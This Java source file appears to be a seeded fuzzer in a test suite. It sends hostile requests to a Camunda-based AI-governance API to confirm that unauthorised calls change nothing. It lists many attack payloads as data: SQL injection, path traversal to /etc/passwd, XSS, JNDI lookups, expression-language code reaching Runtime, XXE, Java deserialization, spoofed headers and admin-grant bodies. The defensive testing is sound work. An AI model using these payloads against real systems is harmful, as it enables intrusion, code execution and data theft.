package io.pilotage.hostile;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Makes hostile requests, the same for the same seed and world. None of them is one its sender has
 * a right to succeed with and that would move an initiative, a gate or a route: where such a thing
 * moves nevertheless, somebody got through.
 */
final class Hostility {

  static final String MARK = "<script>alert(7391)</script>";
  static final List<String> ROLES = List.of(
      "nobody",
      "guesser",
      "service",
      "outsider",
      "pm",
      "business",
      "data-science",
      "engineering",
      "security",
      "legal",
      "risk",
      "operations",
      "admin");

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern PARAMETER = Pattern.compile("\\{([^}/]+)}");
  private static final List<String> MEMBERS = List.of(
      "id",
      "key",
      "name",
      "title",
      "value",
      "type",
      "variables",
      "businessKey",
      "processInstanceIds",
      "processInstanceId",
      "processDefinitionId",
      "processDefinitionKey",
      "taskId",
      "userId",
      "groupId",
      "assignee",
      "owner",
      "reason",
      "to",
      "until",
      "model",
      "version",
      "at",
      "actual",
      "prediction",
      "score",
      "features",
      "groups",
      "latencyMs",
      "cost",
      "context",
      "targetingKey",
      "alerts",
      "labels",
      "status",
      "fingerprint",
      "startsAt",
      "messageName",
      "correlationKeys",
      "instructions",
      "startInstructions",
      "skipCustomListeners",
      "skipIoMappings",
      "query",
      "orQueries",
      "sorting",
      "sortBy",
      "sortOrder",
      "workerId",
      "topics",
      "maxTasks",
      "retries",
      "duedate",
      "suspended",
      "deleteReason",
      "permissions",
      "resourceId",
      "resourceType",
      "profile",
      "credentials",
      "password",
      "metric",
      "baseline",
      "target",
      "source",
      "kpi",
      "amount",
      "unit",
      "decision",
      "comment",
      "artifact",
      "holdoutAccuracy",
      "deploymentId",
      "resource",
      "location");

  private final World world;
  private final List<Route> routes;
  private final List<Route> changing;
  private final List<Route> engine;
  private final long seed;

  Hostility(World world, List<Route> routes, long seed) {
    this.world = world;
    this.routes = routes;
    this.changing = routes.stream().filter(Route::changes).toList();
    this.engine = routes.stream().filter(Route::isEngine).toList();
    this.seed = seed;
  }

  /** The first requests go through every address as every role; the others are drawn. */
  Hostile request(int nr) {
    var luck = new Random(seed * 1_000_003 + nr);
    // The first draws of neighbouring seeds resemble each other.
    for (var i = 0; i < 8; i++) luck.nextLong();
    var kinds = Kind.values();
    var kind = nr < routes.size() ? Kind.OPEN_DOOR : kinds[luck.nextInt(kinds.length)];
    var role = ROLES.get(luck.nextInt(ROLES.size()));
    var route = nr < routes.size()
        ? routes.get(nr)
        : pick(
            luck,
            switch (kind) {
              case OBJECT_VARIABLE, SHAPE -> changing;
              case OUT_OF_PLACE -> engine;
              default -> luck.nextInt(3) == 0 ? changing : routes;
            });
    var headers = new LinkedHashMap<String, String>();
    var contentType = route.changes() ? contentType(route) : null;
    var path = filled(route, role, luck, kind);
    String body = null;
    if (route.changes()) body = body(kind, luck);
    switch (kind) {
      case HEADER -> {
        for (var i = luck.nextInt(3); i >= 0; i--) lie(headers, luck);
        if (route.changes() && luck.nextInt(2) == 0)
          contentType = pick(
              luck,
              List.of(
                  "text/plain",
                  "application/xml",
                  "application/x-www-form-urlencoded",
                  "multipart/form-data; boundary=B",
                  "multipart/form-data",
                  "application/json; charset=utf-16",
                  "x",
                  "application/x-java-serialized-object",
                  "*/*",
                  ""));
      }
      case PATH -> path = bent(path, luck);
      case PARAMETER, EXPRESSION ->
        path = path + (path.contains("?") ? "&" : "?") + parameters(kind, luck);
      case OPEN_DOOR -> {
        if (nr >= routes.size() && luck.nextInt(4) == 0)
          route = new Route(
              pick(
                  luck,
                  List.of(
                      "PUT",
                      "DELETE",
                      "PATCH",
                      "OPTIONS",
                      "HEAD",
                      "TRACE",
                      "POST",
                      "GET",
                      "PROPFIND")),
              route.path());
      }
      default -> {}
    }
    return new Hostile(nr, kind, role, route, path, headers, contentType, body);
  }

  private static String contentType(Route route) {
    if (route.path().startsWith("/api/predictions") || route.path().startsWith("/api/outcomes"))
      return "application/x-ndjson";
    if (route.path().equals("/login") || route.path().matches("/(freeze|models).*"))
      return "application/x-www-form-urlencoded";
    return route.path().endsWith("/datasets") || route.path().endsWith("/deployment/create")
        ? "multipart/form-data; boundary=B"
        : "application/json";
  }

  private String filled(Route route, String role, Random luck, Kind kind) {
    var matcher = PARAMETER.matcher(route.path());
    var path = new StringBuilder();
    while (matcher.find()) {
      var hostile = kind == Kind.INJECTION || luck.nextInt(5) == 0;
      var value = hostile
          ? pick(luck, texts(luck))
          : world.value(route.path(), matcher.group(1), role, luck);
      matcher.appendReplacement(path, Matcher.quoteReplacement(encoded(value)));
    }
    matcher.appendTail(path);
    return path.toString().replace(" ", "%20").replace("**", "x");
  }

  private String body(Kind kind, Random luck) {
    return switch (kind) {
      case OBJECT_VARIABLE -> json(withVariables(luck));
      case OUT_OF_PLACE -> json(outOfPlace(luck));
      case IDENTITY -> json(identity(luck));
      case SHAPE -> misshapen(luck);
      case EXPRESSION -> json(expressions(luck));
      case OPEN_DOOR -> luck.nextBoolean() ? "{}" : "";
      default -> luck.nextInt(6) == 0 ? multipart(luck) : json(object(luck, 3));
    };
  }

  private Object withVariables(Random luck) {
    var typed = new LinkedHashMap<String, Object>();
    typed.put(
        "type",
        pick(
            luck,
            List.of(
                "Object",
                "Bytes",
                "File",
                "Xml",
                "Json",
                "object",
                "OBJECT",
                "Null",
                "Serializable")));
    typed.put(
        "value",
        pick(
            luck,
            List.of(
                "{\"url\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '" + world.canary() + "/x.sql'\"}",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
                "<!DOCTYPE a [<!ENTITY x SYSTEM '" + world.canary() + "/e'>]><a>&x;</a>")));
    typed.put(
        "valueInfo",
        Map.of(
            "objectTypeName",
            pick(
                luck,
                List.of(
                    "org.springframework.jdbc.datasource.DriverManagerDataSource",
                    "java.util.HashMap",
                    "java.net.URL",
                    "javax.swing.JEditorPane",
                    "java.util.ArrayList<java.lang.ProcessBuilder>")),
            "serializationDataFormat",
            pick(
                luck,
                List.of(
                    "application/json", "application/x-java-serialized-object", "application/xml")),
            "filename",
            "../../x",
            "transient",
            luck.nextBoolean()));
    var variables = Map.of(
        pick(
            luck,
            List.of(
                "note", "decision", "title", "gateDecision", "tally", "verdict", "role", "facts")),
        typed);
    return pick(
        luck,
        List.<Object>of(
            Map.of("variables", variables),
            Map.of("modifications", variables),
            Map.of("processVariables", variables, "messageName", "initiative-withdrawn"),
            Map.of("variables", variables, "workerId", "w"),
            typed,
            Map.of("localVariables", variables, "workerId", "w"),
            Map.of("processInstanceIds", List.of(world.instance(luck)), "variables", variables)));
  }

  private Object outOfPlace(Random luck) {
    var activity = pick(
        luck,
        List.of(
            "Task_RecordCompletion",
            "Call_OperateModel",
            "Call_RollOutModel",
            "End_ProblemDefined",
            "Call_SignOffGate",
            "Task_SignOffPhase",
            "Task_PromoteCandidate"));
    var instruction = Map.of(
        "type",
        pick(
            luck,
            List.of("startBeforeActivity", "startAfterActivity", "startTransition", "cancel")),
        "activityId",
        activity,
        "transitionId",
        "Flow_1");
    var definition = world.definition(luck);
    return pick(
        luck,
        List.<Object>of(
            Map.of(
                "businessKey",
                world.initiative(),
                "startInstructions",
                List.of(instruction),
                "skipCustomListeners",
                true),
            Map.of(
                "instructions",
                List.of(instruction),
                "skipIoMappings",
                true,
                "processInstanceIds",
                List.of(world.instance(luck)),
                "processDefinitionId",
                definition),
            Map.of(
                "migrationPlan",
                Map.of(
                    "sourceProcessDefinitionId",
                    definition,
                    "targetProcessDefinitionId",
                    world.definition(luck),
                    "instructions",
                    List.of()),
                "processInstanceIds",
                List.of(world.instance(luck))),
            Map.of(
                "messageName",
                pick(
                    luck,
                    List.of("initiative-withdrawn", "candidate-withdrawn", "incident-raised")),
                "businessKey",
                world.initiative(),
                "all",
                true),
            Map.of(
                "suspended",
                true,
                "processDefinitionKey",
                "ai-lifecycle",
                "includeProcessInstances",
                true),
            Map.of("retries", luck.nextInt(3), "jobIds", List.of("x"), "jobQuery", Map.of()),
            Map.of("duedate", "2099-01-01T00:00:00.000+0000"),
            Map.of(
                "processInstanceIds",
                List.of(world.instance(luck)),
                "deleteReason",
                "x",
                "skipCustomListeners",
                true),
            Map.of(
                "errorCode",
                "stopped",
                "errorMessage",
                "x",
                "variables",
                Map.of(),
                "workerId",
                "w"),
            Map.of(
                "removalTime",
                "2000-01-01T00:00:00.000+0000",
                "absoluteRemovalTime",
                "2000-01-01T00:00:00.000+0000"),
            Map.of("name", "x", "executionId", world.instance(luck))));
  }

  private Object identity(Random luck) {
    var somebody = pick(luck, ROLES);
    return pick(
        luck,
        List.<Object>of(
            Map.of("userId", somebody),
            Map.of("userId", "eve" + luck.nextInt(99)),
            Map.of("password", "a", "authenticatedUserPassword", "demo"),
            Map.of(
                "profile",
                Map.of("id", "eve", "firstName", MARK, "lastName", "x", "email", "a@b\r\nBcc: c@d"),
                "credentials",
                Map.of("password", "a")),
            Map.of("id", somebody, "firstName", "x", "lastName", "y", "email", "not an address"),
            Map.of(
                "type",
                1,
                "permissions",
                List.of("ALL"),
                "userId",
                somebody,
                "groupId",
                "camunda-admin",
                "resourceType",
                luck.nextInt(30),
                "resourceId",
                "*"),
            Map.of("userId", somebody, "groupId", "camunda-admin", "type", "candidate"),
            Map.of("username", somebody, "password", "wrong" + luck.nextInt(3)),
            Map.of("id", "camunda-admin", "name", "x", "type", "SYSTEM"),
            Map.of("assignee", somebody, "owner", somebody, "delegationState", "PENDING")));
  }

  private Object expressions(Random luck) {
    var code = pick(luck, expressions());
    var member = pick(
        luck,
        List.of(
            "dueAfterExpression",
            "dueBeforeExpression",
            "assigneeExpression",
            "candidateGroupExpression",
            "candidateGroupsExpression",
            "processInstanceBusinessKeyExpression",
            "ownerExpression",
            "createdAfterExpression",
            "followUpBeforeExpression",
            "value",
            "title",
            "reason",
            "name",
            "targetingKey"));
    return pick(
        luck,
        List.<Object>of(
            Map.of(member, code),
            Map.of("orQueries", List.of(Map.of(member, code))),
            Map.of(
                "query",
                Map.of(member, code),
                "resourceType",
                "Task",
                "name",
                "x",
                "properties",
                Map.of()),
            Map.of("variables", Map.of(member, Map.of("value", code))),
            Map.of("context", Map.of("targetingKey", code)),
            Map.of("reason", code, "to", code)));
  }

  private List<String> expressions() {
    return List.of(
        "${''.getClass().forName('java.lang.Runtime')}",
        "#{clock.instant()}",
        "__${T(java.lang.System).getenv()}__::.x",
        "${7391*7391}",
        "#{T(java.net.URL)}",
        "${jndi:ldap://127.0.0.1/x}",
        "= 7391 * 7391",
        "{{7391}}",
        "[[${7391}]]",
        "${execution.processEngineServices}");
  }

  private List<String> texts(Random luck) {
    return List.of(
        "' or 1=1 --",
        "x'; drop table initiative; --",
        "\"; copy (select 1) to '/tmp/x'; --",
        "..",
        "../../etc/passwd",
        "..\\..\\x",
        "file:///etc/passwd",
        world.canary() + "/hit",
        MARK,
        "\"><img src=x onerror=alert(7391)>",
        "a\r\nForged: line",
        "a\u0000b",
        "\ud800",
        "\u202egnp.exe",
        "%00",
        "%2e%2e%2f",
        "x".repeat(1 + luck.nextInt(3_000)),
        "",
        " ",
        "null",
        "-1",
        "NaN",
        "9".repeat(400),
        "=cmd|' /C calc'!A0",
        "ñ漢字🙂",
        "*",
        "?",
        "#",
        ";",
        "{}",
        "[]",
        "true",
        "+1000000000-12-31T23:59:59Z",
        "-1000000000-01-01T00:00:00Z",
        "2026-13-45");
  }

  private Object value(Random luck, int depth) {
    return switch (luck.nextInt(depth > 0 ? 12 : 9)) {
      case 0 -> luck.nextInt();
      case 1 ->
        pick(luck, List.of(Double.MAX_VALUE, -0.0, 1e-320, Long.MIN_VALUE, Integer.MAX_VALUE));
      case 2 -> luck.nextBoolean();
      case 3 -> Map.of();
      case 4 -> List.of();
      case 5 -> pick(luck, expressions());
      case 9 -> object(luck, depth - 1);
      case 10 -> List.of(object(luck, depth - 1));
      case 11 -> new ArrayList<>(List.of(value(luck, 0), value(luck, 0)));
      default -> pick(luck, texts(luck));
    };
  }

  private Object object(Random luck, int depth) {
    var object = new LinkedHashMap<String, Object>();
    for (var i = luck.nextInt(7); i >= 0; i--)
      object.put(pick(luck, MEMBERS), luck.nextInt(9) == 0 ? null : value(luck, depth));
    return object;
  }

  private String misshapen(Random luck) {
    var whole = json(object(luck, 4));
    return switch (luck.nextInt(12)) {
      case 0 -> whole.substring(0, luck.nextInt(whole.length()));
      case 1 -> "[".repeat(1 + luck.nextInt(20_000));
      case 2 -> "{\"variables\":".repeat(1 + luck.nextInt(8_000));
      case 3 ->
        "{\"cost\":1e" + luck.nextInt(999_999_999) + ",\"id\":\"x\",\"model\":\"" + world.model()
            + "\"}";
      case 4 -> "\ufeff" + whole;
      case 5 -> "[" + whole + "," + whole + "]";
      case 6 -> "{\"id\":\"" + "y".repeat(luck.nextInt(200_000)) + "\"}";
      case 7 -> "null";
      case 8 -> "\"" + pick(luck, expressions()) + "\"";
      case 9 -> whole.replace("\"", "'");
      case 10 -> whole + "\n" + whole + "\nnot json\n\u0000\n{}";
      default ->
        "{\"maxTasks\":" + luck.nextLong()
            + ",\"maxResults\":99999999999999999999,\"retries\":\"x\",\"suspended\":\"banana\","
            + "\"variables\":[1],\"alerts\":{},\"labels\":3,\"context\":7}";
    };
  }

  private String multipart(Random luck) {
    return "--B\r\nContent-Disposition: form-data; name=\""
        + pick(luck, List.of("file", "data", "deployment-name", "x\r\nX: y")) + "\"; filename=\""
        + pick(luck, texts(luck)).replace("\"", "") + "\"\r\nContent-Type: text/csv\r\n\r\na,b\n1,"
        + pick(luck, texts(luck)) + "\r\n--B--\r\n";
  }

  private void lie(Map<String, String> headers, Random luck) {
    var lie = pick(
        luck,
        List.of(
            "X-Forwarded-For:127.0.0.1",
            "X-Forwarded-Host:evil.example",
            "X-Forwarded-Proto:gopher",
            "X-Forwarded-Prefix:/camunda",
            "Forwarded:for=127.0.0.1;host=evil.example",
            "X-HTTP-Method-Override:DELETE",
            "X-Original-URL:/engine-rest/user",
            "X-Rewrite-URL:/actuator/env",
            "Origin:https://evil.example",
            "Sec-Fetch-Site:cross-site",
            "Content-Encoding:gzip",
            "Accept:text/html",
            "Accept:application/x-java-serialized-object",
            "Accept:" + "a/b,".repeat(400) + "*/*",
            "Range:bytes=0-1,5-2,-9",
            "If-None-Match:" + "\"".repeat(99),
            "Accept-Language:${jndi:ldap://127.0.0.1/x}",
            "Authorization:Bearer " + "x".repeat(1 + luck.nextInt(400)),
            "Authorization:Basic !!!",
            "Authorization:Basic Og==",
            "X-API-Key:x",
            "Cookie:JSESSIONID=../../x; XSRF-TOKEN=a",
            "X-XSRF-TOKEN:a",
            "Expect:something",
            "X-Authorized-Engines:default",
            "If-Modified-Since:yesterday",
            "Content-Language:" + "x".repeat(900),
            "Pilotage-Reason:"));
    var colon = lie.indexOf(':');
    headers.put(lie.substring(0, colon), lie.substring(colon + 1));
  }

  private String bent(String path, Random luck) {
    var parts = path.split("/", -1);
    var at = 1 + luck.nextInt(Math.max(1, parts.length - 1));
    if (at >= parts.length) return path + "/";
    parts[at] = switch (luck.nextInt(14)) {
      case 0 -> parts[at] + ";a=b";
      case 1 -> "./" + parts[at];
      case 2 -> "x/../" + parts[at];
      case 3 -> "/" + parts[at];
      case 4 ->
        parts[at].isEmpty()
            ? "%2e"
            : "%" + Integer.toHexString(parts[at].charAt(0)) + parts[at].substring(1);
      case 5 ->
        parts[at].isEmpty()
            ? "%252e"
            : "%25" + Integer.toHexString(parts[at].charAt(0)) + parts[at].substring(1);
      case 6 -> parts[at].toUpperCase(java.util.Locale.ROOT);
      case 7 -> parts[at] + "%2f..%2f" + parts[at];
      case 8 -> parts[at] + "%00";
      case 9 -> parts[at] + "%5c";
      case 10 -> parts[at] + "%zz";
      case 11 -> "%c0%ae%c0%ae";
      case 12 -> ".." + (luck.nextBoolean() ? "" : ";/") + parts[at];
      default -> parts[at] + "?/" + parts[at] + "/#";
    };
    return String.join("/", parts);
  }

  private String parameters(Kind kind, Random luck) {
    var names = List.of(
        "firstResult",
        "maxResults",
        "sortBy",
        "sortOrder",
        "from",
        "to",
        "at",
        "after",
        "version",
        "processInstanceBusinessKey",
        "candidateGroup",
        "variables",
        "processVariables",
        "dueAfterExpression",
        "assigneeExpression",
        "late",
        "phase",
        "column",
        "deserializeValue",
        "finished",
        "startedAfter",
        "cascade",
        "lang",
        "error",
        "out",
        "_method",
        "class.module.classLoader.x",
        "unfinished",
        "taskVariables");
    var all = new ArrayList<String>();
    for (var i = luck.nextInt(4); i >= 0; i--) {
      var value = kind == Kind.EXPRESSION ? pick(luck, expressions()) : pick(luck, texts(luck));
      all.add(pick(luck, names) + "=" + encoded(value));
    }
    return String.join("&", all);
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text.replace("\ud800", "?"), StandardCharsets.UTF_8)
        .replace("+", "%20");
  }

  private static <T> T pick(Random luck, List<T> list) {
    return list.get(luck.nextInt(list.size()));
  }

  private static String json(Object value) {
    try {
      return JSON.writeValueAsString(value);
    } catch (JsonProcessingException unwritable) {
      throw new IllegalStateException(unwritable);
    }
  }
}
